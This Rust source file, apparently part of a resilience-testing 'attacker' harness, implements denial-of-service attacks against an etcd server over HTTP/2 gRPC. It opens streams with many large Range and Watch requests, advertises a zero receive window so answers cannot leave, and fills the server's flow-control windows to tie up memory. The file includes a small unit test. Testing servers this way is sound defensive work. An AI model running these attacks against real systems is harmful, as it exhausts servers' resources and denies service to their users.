//! Attacks by clients that ask and do not take the answer, or begin and do not end.

use super::attacker::{Stream, Tally};
use super::frames::{
    DATA, END_HEADERS, END_STREAM, HEAD_BYTES, HEADERS, INITIAL_WINDOW_SIZE, PAYLOAD_BYTES_MAX,
    SETTINGS, WINDOW_UPDATE, call, frame, hello, message, stream,
};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::timeout;

/// Calls on each connection: what they ask for is several times what a server may hold.
const CALLS: u32 = 100;
/// What a stream and a connection may send before the server says more (RFC 9113, 6.9.2).
const WINDOW_BYTES: usize = (64 << 10) - 1;
/// How long a server has to say so.
const SAYING: Duration = Duration::from_millis(300);
/// `RangeRequest { key: "siege/", range_end: "siege0" }`.
const FILLED: &[u8] = b"\x0a\x06siege/\x12\x06siege0";
/// `WatchRequest { create_request { key: "\0", range_end: "\0", start_revision: 1 } }`.
const WATCH: &[u8] = b"\x0a\x08\x0a\x01\0\x12\x01\0\x18\x01";

/// Lists of a few MiB, of which not a byte may be sent.
pub(super) async fn lists(tally: &Tally, connection: Stream) {
    let calls = (0..CALLS).map(|n| {
        let mut piece = frame(HEADERS, END_HEADERS, stream(n), &call("/etcdserverpb.KV/Range"));
        piece.extend(frame(DATA, END_STREAM, stream(n), &message(FILLED)));
        piece
    });
    stuck(tally, connection, std::iter::once(hello(Some(0))).chain(calls)).await;
}

/// Watches of all there ever was, of which not a byte may be sent.
pub(super) async fn watches(tally: &Tally, connection: Stream) {
    let calls = (0..CALLS).map(|n| {
        let mut piece = frame(HEADERS, END_HEADERS, stream(n), &call("/etcdserverpb.Watch/Watch"));
        piece.extend(frame(DATA, 0, stream(n), &message(WATCH)));
        piece
    });
    stuck(tally, connection, std::iter::once(hello(Some(0))).chain(calls)).await;
}

/// Watches on which answers cannot leave, so that what is asked more is not read: as many bytes
/// as the server's windows allow.
pub(super) async fn uploads(tally: &Tally, mut connection: Stream) {
    if connection.write_all(&hello(Some(0))).await.is_err() {
        return;
    }
    let mut said = Vec::new();
    let _ = timeout(SAYING, connection.read_to_end(&mut said)).await;
    let (of_stream, of_connection) = windows(&said);
    let watch = message(WATCH);
    let filler = watch.repeat(PAYLOAD_BYTES_MAX / watch.len());
    let frames = of_stream / filler.len();
    let streams = of_connection / (frames * filler.len()).max(1);
    let calls = (0..u32::try_from(streams).unwrap_or_default()).map(|n| {
        let mut piece = frame(HEADERS, END_HEADERS, stream(n), &call("/etcdserverpb.Watch/Watch"));
        for _ in 0..frames {
            piece.extend(frame(DATA, 0, stream(n), &filler));
        }
        piece
    });
    stuck(tally, connection, calls).await;
}

/// What a stream and a connection may send, as a server's first frames say.
fn windows(mut said: &[u8]) -> (usize, usize) {
    let (mut of_stream, mut of_connection) = (WINDOW_BYTES, WINDOW_BYTES);
    while let Some(head) = said.get(..HEAD_BYTES) {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let payload = said.get(HEAD_BYTES..HEAD_BYTES + length).unwrap_or_default();
        let number = |bytes: &[u8]| {
            bytes.iter().fold(0_usize, |number, byte| number << 8 | usize::from(*byte))
        };
        match (head[3], &head[5..9]) {
            (WINDOW_UPDATE, [0, 0, 0, 0]) => of_connection += number(payload),
            (SETTINGS, _) => {
                for setting in payload.chunks_exact(6) {
                    if setting[..2] == INITIAL_WINDOW_SIZE.to_be_bytes() {
                        of_stream = number(&setting[2..]);
                    }
                }
            }
            _ => {}
        }
        said = said.get(HEAD_BYTES + length..).unwrap_or_default();
    }
    (of_stream, of_connection)
}

/// Sends what a connection says, which takes nothing of any answer, and waits.
async fn stuck(tally: &Tally, connection: Stream, pieces: impl Iterator<Item = Vec<u8>>) {
    let (mut read, mut write) = tokio::io::split(connection);
    let hearing = async {
        let mut heard = vec![0; 16 << 10];
        while read.read(&mut heard).await.is_ok_and(|count| count > 0) {}
    };
    tokio::join!(tally.send(&mut write, pieces), hearing);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn windows_are_learnt_from_what_a_server_says() {
        assert_eq!(windows(&[]), (WINDOW_BYTES, WINDOW_BYTES));
        let setting = [0, 4, 0, 1, 0, 0];
        let said = [
            frame(SETTINGS, 0, 0, &setting),
            frame(SETTINGS, 1, 0, &[]),
            frame(WINDOW_UPDATE, 0, 0, &1_000_u32.to_be_bytes()),
            frame(WINDOW_UPDATE, 0, 1, &1_000_u32.to_be_bytes()),
        ];
        assert_eq!(windows(&said.concat()), (65_536, WINDOW_BYTES + 1_000));
    }
}
